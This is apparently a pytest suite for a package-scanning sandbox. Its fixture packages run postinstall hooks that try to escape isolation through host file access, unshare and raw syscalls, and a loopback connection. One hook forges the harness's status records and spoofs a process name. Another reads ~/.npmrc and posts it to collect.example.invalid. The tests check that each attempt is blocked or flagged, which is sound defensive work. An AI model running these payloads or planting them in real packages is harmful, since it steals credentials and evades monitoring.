"""Code detonated in the sandbox tries to get out; every attempt fails and is recorded."""

from __future__ import annotations

import json
import os
import platform
import socket
from pathlib import Path

from detonatetools import needs_sandbox, needs_strace, write_package

from shipwarden.detonate import DetonateOptions, Profile, run_detonate
from shipwarden.sandbox import Limits

pytestmark = [needs_sandbox, needs_strace]

ESCAPE = r"""
const fs = require('fs'), net = require('net'), cp = require('child_process');
const T = JSON.parse(fs.readFileSync(__dirname + '/targets.json', 'utf8'));
const out = {};
function tryit(name, fn) { try { out[name] = 'ok: ' + String(fn()).slice(0, 80); } catch (e) { out[name] = 'fail: ' + e.code; } }
tryit('read_host_file', () => fs.readFileSync(T.host_file, 'utf8'));
tryit('list_real_home', () => fs.readdirSync(T.real_home));
tryit('read_project', () => fs.readdirSync(T.project));
tryit('write_host_tmp', () => fs.writeFileSync(T.host_write, 'x'));
tryit('write_usr', () => fs.writeFileSync('/usr/lib/escape.pth', 'x'));
tryit('write_etc', () => fs.writeFileSync('/etc/profile.d/escape.sh', 'x'));
const procs = fs.readdirSync('/proc').filter(p => /^\d+$/.test(p));
out.process_count = procs.length;
out.sees_host = procs.some(p => { try { return fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').includes('pytest'); } catch (e) { return false; } });
// a nested user namespace (the first step out of a sandbox), and the calls the seccomp filter refuses
out.unshare_cmd = cp.spawnSync('unshare', ['--user', '--map-root-user', 'true']).status;
const probe = cp.spawnSync('/usr/bin/python3', ['-I', __dirname + '/probe.py'], { encoding: 'utf8' });
try { out.syscalls = JSON.parse(probe.stdout); } catch (e) { out.syscalls = { error: String(probe.stderr).slice(0, 200) }; }
cp.spawn('/bin/sh', ['-c', 'sleep 1000; echo ' + T.marker], { detached: true, stdio: 'ignore' }).unref();
const s = net.connect(T.port, '127.0.0.1');
s.on('connect', () => { out.connect_host = 'ok'; done(); });
s.on('error', e => { out.connect_host = 'fail: ' + e.code; done(); });
function done() { console.log('RESULT ' + JSON.stringify(out)); }
"""

PROBE = r"""
import ctypes, json, os, platform
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr, *args)
    if r == 0 and nr == 56:
        os._exit(0)  # a child of a clone that should have been refused
    return "ok" if r >= 0 else os.strerror(ctypes.get_errno())
N = {"unshare_user": (272, 0x10000000), "clone_newuser": (56, 0x10000000 | 17, 0, 0, 0, 0),
     "mount": (165, b"none", b"/tmp", b"tmpfs", 0, None), "keyctl": (250, 0, -3, 0),
     "bpf": (321, 0, None, 0), "perf_event_open": (298, None, 0, -1, -1, 0), "ptrace": (101, 16, 1, 0, 0)}
print(json.dumps({k: call(*v) for k, v in N.items()} if platform.machine() == "x86_64" else {}))
"""


def test_escape_attempts_fail_and_are_recorded(tmp_path: Path) -> None:
    host_file = tmp_path / "host-secret.txt"
    host_file.write_text("host only\n")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    marker = f"sw-escape-{os.getpid()}"
    pkg = write_package(tmp_path / "escape", "escape-fixture", {"postinstall": "node escape.js"},
                        {"escape.js": ESCAPE, "probe.py": PROBE})
    (pkg / "targets.json").write_text(json.dumps({
        "host_file": str(host_file), "real_home": os.path.expanduser("~"), "project": str(pkg),
        "host_write": str(tmp_path / "written-from-inside"), "port": listener.getsockname()[1], "marker": marker,
    }))
    result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], linger=2, limits=Limits(wall_seconds=60, cpu_seconds=60,
                                                                              memory_bytes=8 << 30, output_bytes=64 << 20)))
    obs = result.observations[0]
    line = next(ln for ln in obs.output.splitlines() if ln.startswith("RESULT "))
    got = json.loads(line[len("RESULT "):])
    for attempt in ("read_host_file", "list_real_home", "read_project", "write_host_tmp", "write_usr", "write_etc"):
        assert got[attempt].startswith("fail"), (attempt, got[attempt])
    assert got["connect_host"].startswith("fail")
    assert got["sees_host"] is False and got["process_count"] < 20
    # no nested user namespace; every call the filter denies is refused, and strace still saw each attempt
    assert got["unshare_cmd"] != 0
    if platform.machine() == "x86_64":
        assert got["syscalls"] and set(got["syscalls"].values()) == {"Operation not permitted"}, got["syscalls"]
        denied = {e.syscall for e in obs.trace.denied}
        assert {"unshare", "clone", "mount", "keyctl", "bpf", "perf_event_open", "ptrace"} <= denied, denied
    refused = next(f for f in result.report.findings if f.rule_id == "detonate-sandbox-denied")
    assert any(a.startswith("unshare(CLONE_NEWUSER") for a in refused.properties["attempts"]), refused.properties
    assert not (tmp_path / "written-from-inside").exists()
    try:
        listener.accept()
        raise AssertionError("the host's loopback listener was reached")
    except BlockingIOError:
        pass
    # the detached child was watched (it is in the trace) and did not outlive the detonation
    assert any(marker in " ".join(e.argv) for e in obs.trace.execs)
    alive = []
    for pid in os.listdir("/proc"):
        try:
            if marker.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                alive.append(pid)
        except OSError:
            continue
    assert not alive
    # each attempt is in the trace
    opened = {ev.path for ev in obs.trace.files}
    assert str(host_file) in opened and "/usr/lib/escape.pth" in opened
    assert any(c.port == listener.getsockname()[1] for c in obs.trace.connects)
    listener.close()


def test_runaway_code_is_killed_at_its_budget(tmp_path: Path) -> None:
    pkg = write_package(tmp_path / "spin", "spin-fixture", {"postinstall": "node -e 'for(;;){}'"}, {})
    result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], linger=0, limits=Limits(wall_seconds=3, cpu_seconds=60,
                                                                              memory_bytes=8 << 30)))
    assert result.observations[0].timed_out
    assert {f.rule_id for f in result.report.findings} >= {"detonate-budget"}


def test_memory_hog_is_stopped(tmp_path: Path) -> None:
    pkg = write_package(tmp_path / "hog", "hog-fixture", {"postinstall": "python3 -c 'b = bytearray(3 << 30)'"}, {})
    result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], linger=2, limits=Limits(wall_seconds=60, cpu_seconds=60,
                                                                              memory_bytes=1 << 30)))
    assert result.observations[0].statuses["postinstall"] != 0


FORGE = r"""#!/bin/bash
# the harness's records, forged: a status, a note, the run script and the decoy (read-only: refused)
echo "postinstall 0" >> /scratch/.sw/status
echo "the network sink did not start" >> /scratch/.sw/notes
(echo 'curl http://x.example.invalid/' >> /scratch/.sw/ro/run.sh) 2>/dev/null && echo "RUN_SH=written" || echo "RUN_SH=refused"
(echo 'pass' > /scratch/.sw/ro/decoy.py) 2>/dev/null && echo "DECOY=written" || echo "DECOY=refused"
(sleep 0.3; echo "postinstall 0" >> /scratch/.sw/status) &
# sending under the harness's names: a process called Runner.Worker whose arguments name the run script
exec -a Runner.Worker /usr/bin/python3 -I -c "$SEND" /scratch/.sw/ro/run.sh /scratch/.sw/ro/decoy.py 'exec >/scratch/.sw/out.log'
"""

SEND = """import os, sys, urllib.request
loot = open(os.path.expanduser('~/.npmrc')).read()
try:
    urllib.request.urlopen('http://collect.example.invalid/u', data=loot.encode(), timeout=5)
except Exception:
    pass
sys.exit(7)
"""


def test_harness_records_cannot_be_forged_nor_its_names_borrowed(tmp_path: Path) -> None:
    """The package writes the old status and notes files, tries to rewrite the run script and the decoy, and
    sends a canary from a process named like the harness's: its exit status comes from the trace, the notes
    from the launcher, the harness's files are read-only, and the send is the package's (P0)."""
    pkg = write_package(tmp_path / "forger", "forger-fixture", {"postinstall": "SEND=\"$(cat send.py)\" bash forge.sh"},
                        {"forge.sh": FORGE, "send.py": SEND})
    result = run_detonate(DetonateOptions([str(pkg)], [Profile.LAPTOP], linger=1))
    obs = result.observations[0]
    assert obs.statuses == {"postinstall": 7}
    assert "RUN_SH=refused" in obs.output and "DECOY=refused" in obs.output, obs.output
    assert not any("sink did not start" in n for n in obs.notes), obs.notes
    sent = next(f for f in result.report.findings if f.rule_id == "detonate-canary-sent")
    assert "collect.example.invalid" in sent.message and sent.tier.value == "P0"
